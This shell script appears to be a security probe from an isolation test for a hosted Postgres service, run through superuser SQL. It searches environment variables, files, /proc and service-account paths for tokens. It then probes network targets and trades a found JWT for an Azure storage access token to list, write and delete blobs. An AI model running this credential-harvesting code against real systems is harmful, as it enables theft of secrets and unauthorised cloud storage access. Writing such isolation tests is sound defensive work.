# Tries what SQL that runs as superuser must not get at, and notes each try in the data directory, the working directory of a server:
#   via|what|target|outcome|detail
# Above it stand PROXY, CONTAINER, TOKEN_URL, CLIENT_ID and TARGETS (words "what=host:port") as the test knows them.
# No backslash-dot lines: it arrives through COPY.
via=$1

note() {
    printf '%s|%s|%s|%s|%s\n' "$via" "$1" "$2" "$3" "$(printf %s "$4" | tr '|\n\r' '   ' | cut -c1-160)" >> probe.tries
}

# judge WHAT TARGET DETAIL: it has succeeded when there is something to tell.
judge() {
    if [ -n "$3" ]; then note "$1" "$2" SUCCEEDED "$3"; else note "$1" "$2" failed nothing; fi
}

environment() {
    judge environment "own variables" "$(env | cut -d= -f1 | grep -E '^(AZURE_|AZCOPY_|KUBERNETES_|PGPASS)|TOKEN|PASSWORD|SECRET' | tr '\n' ' ')"
}

# Files with a JSON Web Token in them. Neither pipes nor devices are read: that would wait for ever.
tokens() {
    find / \( -path /proc -o -path /usr -o -path /opt -o -path /sys -o -path "$PWD" \) -prune -o -type f -size -64k -readable -print0 2> /dev/null |
        xargs -0 -r grep -lE 'eyJ[A-Za-z0-9_-]{10,}[.]eyJ' 2> /dev/null
}

processes() {
    found=
    for process in /proc/[0-9]*; do
        words=$(tr '\0' ' ' 2> /dev/null < "$process/cmdline")
        case $words in
            *azcopy* | *"toygres-job download"*) found="$found ${process#/proc/}:${words%% *}" ;;
        esac
        if tr '\0' '\n' 2> /dev/null < "$process/environ" | grep -qE '^(AZURE_|AZCOPY_)|eyJ[A-Za-z0-9_-]{10,}[.]eyJ'; then
            found="$found ${process#/proc/}:environment"
        fi
    done
    judge processes "/proc/*/cmdline, environ" "$found"
}

service_account() {
    judge "service account" /var/run/secrets "$(find /var/run/secrets /run/secrets -name '*token*' 2> /dev/null | tr '\n' ' ')"
}

connect() {
    if timeout 3 bash -c "exec 3<> /dev/tcp/$2/$3" 2> /dev/null; then
        note connect "$1" SUCCEEDED "$2:$3"
    else
        note connect "$1" failed "$2:$3"
    fi
}

http() {
    curl --silent --insecure --proxy "$PROXY" --max-time 10 --output /dev/null --write-out '%{http_code}' "$@" 2> /dev/null
}

# reply WHAT TARGET STATUS: no status is 000.
reply() {
    case $3 in
        2*) note "$1" "$2" SUCCEEDED "HTTP $3" ;;
        *) note "$1" "$2" failed "HTTP $3" ;;
    esac
}

blobs() {
    command -v curl > /dev/null || { note blobs "all of them" failed "no curl here"; return; }
    reply "blobs without a token" "list of all images" "$(http "$CONTAINER?restype=container&comp=list")"
    reply "blobs without a token" "write" "$(http --request PUT --header 'x-ms-blob-type: BlockBlob' --data stolen "$CONTAINER/stolen-$via.txt")"
    token=$(cat $(tokens) /dev/null | head -n 1)
    [ -n "$token" ] || { note "blobs with a token" "all images" failed "no token found"; return; }
    access=$(curl --silent --insecure --proxy "$PROXY" --max-time 10 "$TOKEN_URL" --data-urlencode grant_type=client_credentials \
        --data-urlencode "client_id=$CLIENT_ID" --data-urlencode scope=https://storage.azure.com/.default \
        --data-urlencode client_assertion_type=urn:ietf:params:oauth:client-assertion-type:jwt-bearer \
        --data-urlencode "client_assertion=$token" | grep -oE '"access_token" *: *"[^"]+"' | cut -d'"' -f4)
    set -- --header "Authorization: Bearer $access" --header 'x-ms-version: 2023-11-03'
    reply "blobs with a token" "list of all images" "$(http "$@" "$CONTAINER?restype=container&comp=list")"
    reply "blobs with a token" "write" "$(http "$@" --request PUT --header 'x-ms-blob-type: BlockBlob' --data stolen "$CONTAINER/stolen-$via.txt")"
    reply "blobs with a token" "delete" "$(http "$@" --request DELETE "$CONTAINER/stolen-$via.txt")"
}

main() {
    # Once for each way, however often the SQL comes by.
    mkdir "/tmp/probe-$via" 2> /dev/null || return 0
    environment
    judge files "anything like a token" "$(tokens | tr '\n' ' ')"
    processes
    service_account
    for target in $TARGETS; do
        address=${target#*=}
        connect "${target%%=*}" "${address%:*}" "${address##*:}"
    done
    blobs
}

main
exit 0
